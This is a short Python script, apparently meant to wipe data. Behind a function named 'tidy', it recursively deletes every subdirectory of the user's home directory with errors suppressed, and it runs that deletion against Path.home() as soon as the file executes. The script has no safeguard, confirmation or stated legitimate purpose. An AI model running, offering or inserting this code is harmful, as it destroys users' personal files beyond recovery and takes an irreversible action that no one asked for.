"""Removes each folder of the home, by way of a function."""
import shutil
from pathlib import Path


def tidy(folder):
    for entry in folder.iterdir():
        if entry.is_dir():
            shutil.rmtree(entry, ignore_errors=True)


tidy(Path.home())
